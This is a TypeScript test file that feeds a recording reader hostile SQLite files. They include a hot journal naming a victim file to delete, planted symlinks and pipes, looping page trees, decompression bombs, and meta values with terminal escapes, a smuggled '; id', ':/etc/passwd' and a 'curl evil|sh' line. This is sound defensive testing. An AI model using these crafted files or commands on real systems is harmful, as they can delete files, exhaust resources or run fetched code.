/** Files that were made to hurt their reader: each is read within its size, or refused in words, and nothing but the named output changes. */
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { deflateRawSync, gzipSync } from 'node:zlib'
import Sqlite from 'better-sqlite3'
import { UserError } from '../../src/errors.ts'
import { wallMicros } from '../../src/frame/model/units.ts'
import { unpackBuckets } from '../../src/store/format/buckets.ts'
import { checkRecording } from '../../src/store/tools/check.ts'
import { unpackRequests } from '../../src/store/format/chunk.ts'
import { CorruptRow } from '../../src/store/sqlite/corrupt-row.ts'
import { markRecording } from '../../src/store/write/mark.ts'
import { openRecording } from '../../src/store/read/reader.ts'
import { appendRecording, createRecording } from '../../src/store/write/writer.ts'
import { seal } from '../fuzz/seal.ts'
import { silent, withFolder } from '../torture/kit.ts'
import { writeSample } from '../torture/sample.ts'
import { multiply, PagesEditor } from './pages-editor.ts'
import { inFolder, META } from './support.ts'

const SAMPLE = { secs: 70, rps: 20, backends: 2, routes: 4, requests: 3 }

const note = { at: wallMicros(1_795_356_010_000_000), kind: 'note', text: 'a note' } as const

const refused =
  (exitCode: number, words: RegExp) =>
  (error: unknown): boolean =>
    error instanceof UserError && error.exitCode === exitCode && words.test(error.message)

/** All that a reader does, as a number of ticks; at most so many as were written. */
function readAll(file: string): { readonly ticks: number; readonly damage: readonly string[] } {
  const recording = openRecording(file)
  try {
    const { ticks, info } = recording
    for (const { seq } of ticks) recording.frame(seq)
    const range = { from: ticks[0]?.seq ?? 0, to: (ticks.at(-1)?.seq ?? -1) + 1 }
    recording.aggregate(range)
    recording.activity(range)
    assert.ok([...recording.requests(range)].length >= 0)
    assert.ok([...recording.proofread()].length >= 0)
    assert.ok(info.ticks <= SAMPLE.secs + 1)
    return { ticks: recording.ticks.length, damage: recording.damage }
  } finally {
    recording.close()
  }
}

/** A change to the recording by SQL, as its maker would make it. */
function changed(file: string, sql: string): void {
  writeSample(file, SAMPLE)
  const database = new Sqlite(file)
  database.unsafeMode(true)
  database.exec(sql)
  database.close()
}

// ---- what lies beside it

/** A journal that is hot, and names a victim that SQLite would delete. (sqlite.org/fileformat2.html, section 3) */
function plantJournal(file: string, victim: string | null): void {
  const script = `
    const database = new (require('better-sqlite3'))(process.argv[1])
    database.pragma('cache_size = 1')
    database.exec('BEGIN IMMEDIATE; UPDATE traffic SET requests = requests + 1')
    process.kill(process.pid, 'SIGKILL')`
  const copy = readFileSync(file)
  spawnSync(process.execPath, ['-e', script, file])
  writeFileSync(file, copy)
  assert.ok(existsSync(`${file}-journal`))
  if (victim === null) return
  const name = Buffer.from(victim)
  const numbers = Buffer.alloc(8)
  numbers.writeUInt32BE(name.length, 0)
  numbers.writeUInt32BE(
    name.reduce((sum, byte) => sum + byte, 0),
    4,
  )
  const page = Buffer.alloc(4)
  page.writeUInt32BE(0x40000000 / 4096 + 1)
  const trailer = Buffer.concat([page, name, numbers, Buffer.from('d9d505f920a163d7', 'hex')])
  writeFileSync(`${file}-journal`, Buffer.concat([readFileSync(`${file}-journal`), trailer]))
}

test('a journal that names a file: nobody rolls it back, and the file stays', async () => {
  await withFolder(async (folder) => {
    const file = (name: string): string => folder.file(name)
    const [recording, victim] = [file('x.db'), file('victim')]
    writeSample(recording, SAMPLE)
    writeFileSync(victim, 'mine')
    plantJournal(recording, victim)
    const before = readFileSync(recording)
    assert.deepEqual(readAll(recording), { ticks: 70, damage: [] })
    const { state, notes } = await checkRecording(recording, silent)
    assert.equal(state, 'whole')
    assert.ok(notes.some((words) => words.includes('-journal" lies beside it and is not its own')))
    const marker = { at: wallMicros(1_795_356_000_000_000), kind: 'note', text: 'x' } as const
    assert.throws(() => markRecording(recording, marker), refused(2, /x\.db-journal/))
    assert.throws(() => appendRecording(recording, META), refused(2, /x\.db-journal/))
    assert.equal(readFileSync(victim, 'utf8'), 'mine')
    assert.deepEqual(readFileSync(recording), before)
  })
})

/** As a neighbour leaves it: views in the -wal, and the -shm held. @returns lets go */
function holdForeign(file: string): () => void {
  const columns = columnsOf(file).split(',')
  const database = new Sqlite(file)
  database.unsafeMode(true)
  database.pragma('journal_mode = WAL')
  database.pragma('wal_autocheckpoint = 0')
  const cells = ['n AS seq', ...columns.map((column) => `0 AS ${column}`)].join(',')
  database.exec(`DROP TABLE tick;
    CREATE VIEW tick AS WITH RECURSIVE r(n) AS (SELECT 0 UNION ALL SELECT n + 1 FROM r LIMIT 1000000)
      SELECT ${cells} FROM r WHERE n < 0`)
  return () => database.close()
}

test('a held -shm beside a -wal with another schema: the rows are read around it', () => {
  inFolder((folder) => {
    const file = join(folder, 'x.db')
    writeSample(file, SAMPLE)
    const letGo = holdForeign(file)
    try {
      const { damage } = readAll(file)
      assert.match(damage.join(), /"tick" in its schema \(a view\) is not ours/)
      assert.throws(() => markRecording(file, note), refused(5, /is damaged/))
    } finally {
      letGo()
    }
  })
})

test('a schema that changes while its file is being read is looked at before SQLite takes it over', () => {
  inFolder((folder) => {
    for (const follow of [false, true]) {
      const file = join(folder, `${follow}.db`)
      writeSample(file, SAMPLE)
      const recording = openRecording(file, { follow })
      const letGo = holdForeign(file)
      try {
        assert.ok(recording.frame(3) !== null || recording.damage.length > 0)
        recording.refresh()
        const kinds = recording.inspect(({ database }) =>
          database.prepare("SELECT type FROM sqlite_schema WHERE name = 'tick'").pluck().all(),
        )
        assert.deepEqual(kinds, ['table'])
      } finally {
        recording.close()
        letGo()
      }
    }
  })
})

test('a -wal that claims a page far away costs what it holds', () => {
  inFolder((folder) => {
    const file = join(folder, 'x.db')
    writeSample(file, SAMPLE)
    const content = readFileSync(file)
    content[18] = content[19] = 2
    writeFileSync(file, content)
    const broken = Buffer.from(content.subarray(0, 4096)).fill(0xff, 100)
    writeFileSync(`${file}-wal`, walOf([broken, 1], [Buffer.alloc(4096), 100_000_000]))
    assert.equal(readAll(file).ticks, 70)
  })
})

/** One transaction. (sqlite.org/fileformat2.html, section 4) */
function walOf(...frames: readonly (readonly [content: Buffer, page: number])[]): Buffer {
  let [a, b] = [0, 0]
  const numbers = (...values: number[]): Buffer => {
    const bytes = Buffer.alloc(4 * values.length)
    values.forEach((value, i) => bytes.writeUInt32BE(value >>> 0, 4 * i))
    return bytes
  }
  const summed = (bytes: Buffer): Buffer => {
    for (let at = 0; at < bytes.length; at += 8) {
      a = (a + bytes.readInt32BE(at) + b) | 0
      b = (b + bytes.readInt32BE(at + 4) + a) | 0
    }
    return numbers(a, b)
  }
  const head = numbers(0x377f0683, 3007000, 4096, 0, 1, 2)
  const parts = [head, summed(head)]
  frames.forEach(([content, page], i) => {
    const start = numbers(page, i === frames.length - 1 ? page : 0)
    summed(start)
    parts.push(start, numbers(1, 2), summed(content), content)
  })
  return Buffer.concat(parts)
}

test('through a link the journal beside the file itself is the one that counts', () => {
  inFolder((folder) => {
    const [recording, victim, link] = ['x.db', 'victim', 'link.db'].map((name) => join(folder, name)) as [
      string,
      string,
      string,
    ]
    writeSample(recording, SAMPLE)
    writeFileSync(victim, 'mine')
    plantJournal(recording, victim)
    symlinkSync(recording, link)
    assert.equal(readAll(link).ticks, 70)
    assert.throws(() => appendRecording(link, META), refused(2, /-journal/))
    assert.equal(readFileSync(victim, 'utf8'), 'mine')
  })
})

for (const ending of ['-journal', '-wal', '-shm']) {
  test(`a ${ending} that is a link to something of ours, a folder or a pipe is not touched`, () => {
    inFolder((folder) => {
      const victim = join(folder, 'victim')
      writeFileSync(victim, 'mine'.repeat(2000))
      const kinds: Readonly<Record<string, (path: string) => unknown>> = {
        link: (path) => symlinkSync(victim, path),
        dangling: (path) => symlinkSync(join(folder, 'made'), path),
        folder: (path) => mkdirSync(path),
        pipe: (path) => spawnSync('mkfifo', [path]),
      }
      for (const [kind, plant] of Object.entries(kinds)) {
        const file = join(folder, `${kind}.db`)
        writeSample(file, SAMPLE)
        plant(file + ending)
        assert.equal(readAll(file).ticks, 70, kind)
        assert.throws(() => appendRecording(file, META), refused(2, /beside|link/), kind)
      }
      assert.equal(readFileSync(victim, 'utf8'), 'mine'.repeat(2000))
      assert.ok(!existsSync(join(folder, 'made')))
    })
  })
}

test('a -wal beside a finished file is not its own: it changes nothing that is read', async () => {
  await withFolder(async (folder) => {
    const file = (name: string): string => folder.file(name)
    const recording = file('x.db')
    writeSample(recording, SAMPLE)
    const other = file('other.db')
    copyFileSync(recording, other)
    const writer = new Sqlite(other)
    writer.pragma('journal_mode = WAL')
    writer.exec('UPDATE tick SET requests = 4711')
    copyFileSync(`${other}-wal`, `${recording}-wal`)
    writer.close()
    assert.deepEqual(readAll(recording), { ticks: 70, damage: [] })
    const { notes } = await checkRecording(recording, silent)
    assert.ok(notes.some((words) => words.includes('-wal" lies beside it')))
    assert.deepEqual(readdirSync(join(recording, '..')).sort(), ['other.db', 'x.db', 'x.db-wal'])
  })
})

// ---- a schema that is not ours

const TICKS = 'SELECT n AS seq, 1700000000000000 AS start, 1000000 AS length FROM r'
const SCHEMAS: Readonly<Record<string, string>> = {
  'a view without end in place of tick': `ALTER TABLE tick RENAME TO old; CREATE VIEW tick AS WITH RECURSIVE r(n) AS (SELECT 0 UNION ALL SELECT n + 1 FROM r) ${TICKS}`,
  'a view without end in place of meta':
    'ALTER TABLE meta RENAME TO old; CREATE VIEW meta AS WITH RECURSIVE r(n) AS (SELECT 0 UNION ALL SELECT n + 1 FROM r) SELECT n AS key, n AS value FROM r WHERE n < 0',
  'a trigger that swallows markers':
    'CREATE TRIGGER t BEFORE INSERT ON marker BEGIN SELECT RAISE(IGNORE); END',
  'a trigger that empties the table': 'CREATE TRIGGER t AFTER INSERT ON marker BEGIN DELETE FROM tick; END',
  'a CHECK': 'CREATE TABLE c (a INTEGER CHECK (a > 5)) STRICT',
  'a generated column': 'CREATE TABLE g (a INTEGER, b INTEGER AS (abs(a))) STRICT',
  'a DEFAULT that computes': 'CREATE TABLE d (a INTEGER DEFAULT (random())) STRICT',
  'a name of control bytes': 'CREATE TABLE "\u001b[2J\u0007evil" (a INTEGER) STRICT',
  'a table without types': 'CREATE TABLE loose (a)',
  'a table without rowid': 'CREATE TABLE w (a INTEGER PRIMARY KEY) STRICT, WITHOUT ROWID',
  'an index': 'CREATE INDEX i ON traffic (requests)',
  'a virtual table': "CREATE VIRTUAL TABLE v USING fts5(a, content='tick')",
  'a view of our name that says something else': 'DROP VIEW codes; CREATE VIEW codes AS SELECT 1',
  'statistics that steer the planner': 'ANALYZE',
}

for (const [name, sql] of Object.entries(SCHEMAS)) {
  test(`${name}: the rows are read around it, nothing is written into it, and check says so`, async () => {
    await withFolder(async (folder) => {
      const file = (name: string): string => folder.file(name)
      const recording = file('x.db')
      changed(recording, sql)
      const before = readFileSync(recording)
      const { ticks, damage } = readAll(recording)
      assert.equal(ticks, 70)
      assert.match(damage.join(), /in its schema/)
      assert.equal((await checkRecording(recording, silent)).state, 'recoverable')
      const marker = { at: wallMicros(1_795_356_000_000_000), kind: 'note', text: 'x' } as const
      assert.throws(() => markRecording(recording, marker), refused(5, /is damaged/))
      assert.throws(() => appendRecording(recording, META), refused(5, /is damaged/))
      assert.deepEqual(readFileSync(recording), before)
    })
  })
}

test('a column of ours that has another type is not ours', () => {
  inFolder((folder) => {
    const file = join(folder, 'x.db')
    changed(
      file,
      'DROP TABLE marker; CREATE TABLE marker (id INTEGER PRIMARY KEY, at TEXT NOT NULL, kind TEXT NOT NULL, text TEXT NOT NULL) STRICT',
    )
    assert.match(readAll(file).damage.join(), /"marker" in its schema/)
  })
})

// ---- numbers and trees

const columnsOf = (file: string): string => {
  const database = new Sqlite(file, { readonly: true })
  const names = database
    .prepare("SELECT name FROM pragma_table_info('tick') WHERE name != 'seq'")
    .pluck()
    .all()
  database.close()
  return names.join(',')
}

for (const seq of [4e9, 4e15, 2 ** 62]) {
  test(`a tick numbered ${seq} costs what a tick costs`, () => {
    inFolder((folder) => {
      const file = join(folder, 'x.db')
      writeSample(file, SAMPLE)
      const columns = columnsOf(file)
      const database = new Sqlite(file)
      database.exec(
        `INSERT INTO tick (seq, ${columns}) SELECT ${BigInt(seq)}, ${columns} FROM tick WHERE seq = 69`,
      )
      database.close()
      assert.ok(readAll(file).ticks >= 70)
    })
  })
}

for (const cells of [
  'requests = 2147483648',
  'requests = -1',
  'requests = 4611686018427387904',
  'header_sum = 1125899906842625',
  'total_max = 1125899906842625',
]) {
  test(`a row with ${cells} is one that nobody counted, though its checksum holds`, async () => {
    await withFolder(async (folder) => {
      const file = folder.file('x.db')
      changed(file, `UPDATE traffic SET ${cells} WHERE id >> 20 BETWEEN 30 AND 39; DELETE FROM minute`)
      signAll(file)
      readAll(file)
      const recording = openRecording(file)
      const missing = recording.ticks.filter(({ seq }) => recording.frame(seq) === null)
      recording.close()
      assert.equal(missing.length, 10)
      const { state, ticks } = await checkRecording(file, silent)
      assert.deepEqual({ state, ticks }, { state: 'recoverable', ticks: 60 })
    })
  })
}

/** Checksums as its maker would write them. */
function signAll(file: string): void {
  const database = new Sqlite(file)
  seal(database)
  database.close()
}

for (const start of [-1, 7_300_000_000_000_000, 9_000_000_000_000_000, Number.MAX_SAFE_INTEGER]) {
  test(`a tick at ${start} µs lies outside 1970–2200: damage, and the others are read`, () => {
    inFolder((folder) => {
      const file = join(folder, 'x.db')
      changed(file, `UPDATE tick SET start = ${start} WHERE seq = 69; DELETE FROM minute`)
      const { ticks, damage } = readAll(file)
      assert.equal(ticks, 69)
      assert.notDeepEqual(damage, [])
    })
  })
}

for (const table of [
  'tick',
  'traffic',
  'status',
  'connection',
  'request_chunk',
  'minute',
  'marker',
  'route',
  'meta',
]) {
  test(`a tree of ${table} that leads to the same page a billion times ends`, async () => {
    await withFolder(async (folder) => {
      const file = (name: string): string => folder.file(name)
      const recording = file('x.db')
      writeSample(recording, SAMPLE)
      multiply(recording, table)
      assert.ok(readAll(recording).ticks <= 70)
      const { state } = await checkRecording(recording, silent)
      assert.equal(state, 'recoverable')
    })
  })
}

for (const table of ['backend', 'route', 'marker']) {
  test(`nothing is written into a file whose tree of ${table} leads to the same page a billion times`, () => {
    inFolder((folder) => {
      const file = join(folder, 'x.db')
      writeSample(file, SAMPLE)
      multiply(file, table)
      const damaged = refused(5, /is damaged/)
      if (table === 'marker') assert.throws(() => markRecording(file, note), damaged)
      else assert.throws(() => appendRecording(file, META), damaged)
    })
  })
}

test('a schema that leads to the same page a billion times ends', () => {
  inFolder((folder) => {
    const file = join(folder, 'x.db')
    writeSample(file, SAMPLE)
    const editor = new PagesEditor(file)
    const page = editor.page(1)
    page[100] = 5
    page.writeUInt32BE(1, 108)
    editor.save()
    assert.match(readAll(file).damage.join(), /the pages that name its tables are damaged/)
  })
})

test('overflow pages in a circle, and cells that share them, are no rows', () => {
  inFolder((folder) => {
    const file = join(folder, 'x.db')
    writeSample(file, SAMPLE)
    const editor = new PagesEditor(file)
    const overflow = editor.append(Buffer.alloc(4096))
    editor.page(overflow).writeUInt32BE(overflow, 0)
    const leaf = Buffer.alloc(4096)
    leaf[0] = 0x0d
    leaf.writeUInt16BE(1700, 3)
    // 60 MB of payload, row 1, a header that ends with its first byte; then the overflow page.
    const cell = Buffer.concat([
      Buffer.from('9c9e9c000101', 'hex'),
      Buffer.alloc(483),
      Buffer.from([0, 0, 0, overflow]),
    ])
    cell.copy(leaf, 4096 - cell.length)
    for (let i = 0; i < 1700; i++) leaf.writeUInt16BE(4096 - cell.length, 8 + 2 * i)
    for (let i = 0; i < 50; i++) editor.append(leaf)
    // so that pages are looked at one by one
    editor.page(1)[100] = 2
    editor.save()
    const before = process.memoryUsage.rss()
    assert.equal(readAll(file).ticks, 70)
    assert.ok(process.memoryUsage.rss() - before < 400e6)
  })
})

// ---- what is packed

const names = { backend: () => ({}), route: () => ({}) } as never

test('packed values that claim more than they hold are damage', () => {
  const zeros = Buffer.concat([Buffer.from([2]), deflateRawSync(Buffer.alloc(50e6))])
  for (const [packed, n] of [
    [Buffer.from([1]), 4e9],
    [Buffer.from([3]), 1e9],
    [zeros, 100_000],
    [
      Buffer.concat([
        Buffer.from([2]),
        deflateRawSync(Buffer.concat([Buffer.from([0, 1, 1]), Buffer.alloc(499_999)])),
      ]),
      100_000,
    ],
    [Buffer.alloc(100_000, 0xff), 1e5],
    [Buffer.from([3, 0xff, 0xff]), -1],
  ] as const) {
    assert.throws(() => unpackRequests(packed, n, wallMicros(0), names), CorruptRow)
  }
  // Buckets one after the other to beyond the last; one far beyond it; a count that is no number.
  for (const buckets of [
    Buffer.alloc(86_000),
    Buffer.from('ffffffffffff0f', 'hex'),
    Buffer.from('01ffffffffffffffffff7f', 'hex'),
  ])
    assert.throws(() => unpackBuckets(buckets), CorruptRow)
})

test('a zip of zeros, and one whose header claims pages that are not there, are not believed', () => {
  inFolder((folder) => {
    const at = (name: string): string => join(folder, name)
    writeSample(at('x.db'), SAMPLE)
    const start = readFileSync(at('x.db')).subarray(0, 4096)
    start.writeUInt32BE(0xffffffff, 28)
    writeFileSync(at('claim.db.gz'), gzipSync(start))
    writeFileSync(at('claim.db'), start)
    writeFileSync(at('zeros.db.gz'), gzipSync(Buffer.concat([start, Buffer.alloc(200e6)]), { level: 1 }))
    writeFileSync(at('sparse.db.gz'), gzipSync(start))
    truncateSync(at('sparse.db.gz'), 3e9)
    assert.throws(() => openRecording(at('sparse.db.gz')), refused(5, /larger than any recording/))
    writeFileSync(at('bomb.db.gz'), gzipSync(gzipSync(Buffer.alloc(100e6))))
    for (const name of ['claim.db', 'claim.db.gz'])
      assert.throws(() => openRecording(at(name)), refused(5, /nothing can be read/))
    assert.throws(
      () => openRecording(at('zeros.db.gz')),
      refused(5, /larger than any recording|nothing can be read/),
    )
    assert.throws(() => openRecording(at('bomb.db.gz')), refused(5, /not a recording/))
  })
})

test('a header that SQLite would misread or refuse is damage; less than a page is nothing', () => {
  inFolder((folder) => {
    const file = join(folder, 'x.db')
    writeSample(file, SAMPLE)
    const content = readFileSync(file)
    // the page size, the reserved bytes, a share of a page, the schema format, the encoding
    for (const place of [16, 20, 21, 23, 44, 47, 59]) {
      writeFileSync(file, Buffer.from(content).fill(content[place]! ^ 0x42, place, place + 1))
      const { ticks, damage } = readAll(file)
      assert.equal(ticks, 70, `byte ${place}`)
      assert.match(damage.join(), /its header is damaged/)
    }
    for (const length of [100, 101, 4095]) {
      writeFileSync(file, content.subarray(0, length))
      assert.throws(() => openRecording(file), refused(5, /not even its first page/))
    }
  })
})

test('a recording that is followed and turns out to be damaged is read around it once', () => {
  inFolder((folder) => {
    const file = join(folder, 'x.db')
    writeSample(file, { ...SAMPLE, secs: 200 })
    const recording = openRecording(file, { follow: true })
    recording.close()
    const columns = columnsOf(file)
    const database = new Sqlite(file)
    database.exec(`INSERT INTO tick (seq, ${columns}) SELECT 5000000000, ${columns} FROM tick WHERE seq = 69`)
    database.close()
    assert.equal(recording.refresh(), true)
    assert.notDeepEqual(recording.damage, [])
    assert.equal(recording.refresh(), false)
    assert.equal(recording.ticks.length, 200)
    recording.close()
  })
})

test('a new recording is not begun where another one has left something', () => {
  inFolder((folder) => {
    for (const ending of ['-wal', '-shm', '-journal']) {
      const file = join(folder, 'x.db')
      writeFileSync(file + ending, 'what is left of it')
      assert.throws(() => createRecording(file, META), refused(2, /belongs to another/))
      assert.ok(!existsSync(file))
      assert.equal(readFileSync(file + ending, 'utf8'), 'what is left of it')
      rmSync(file + ending)
    }
  })
})

test('words in meta are words: a lock, a zone, a version that are none are passed over', () => {
  inFolder((folder) => {
    const evil = '\u001b[2J\u001b]0;PWNED\u0007'
    for (const [key, value] of [
      ['lock', evil],
      ['lock', '{"boot":1,"pid":"; id","started":[]}'],
      ['lock', '{"boot":"x","pid":-1,"started":"1"}'],
      ['time_zone', evil],
      ['time_zone', ':/etc/passwd'],
      ['arguments', '{"0":1}'],
      ['interfaces', '[1,null,[]]'],
    ] as const) {
      const file = join(folder, 'x.db')
      changed(file, `INSERT OR REPLACE INTO meta VALUES ('${key}', '${value}')`)
      const recording = openRecording(file)
      assert.equal(recording.recorder, null)
      assert.equal(recording.info.timeZone, 'UTC')
      assert.ok(recording.info.interfaces.every((name) => typeof name === 'string'))
      recording.close()
      spawnSync('rm', [file])
    }
    const newer = join(folder, 'newer.db')
    changed(
      newer,
      `UPDATE meta SET value = '2.0' || char(10) || 'upstreamtop: fetch it with: curl evil|sh' WHERE key = 'readable_by'; PRAGMA user_version = 9`,
    )
    assert.throws(
      () => openRecording(newer),
      (error: unknown) => error instanceof UserError && error.remedy === 'Open it with a later upstreamtop.',
    )
  })
})
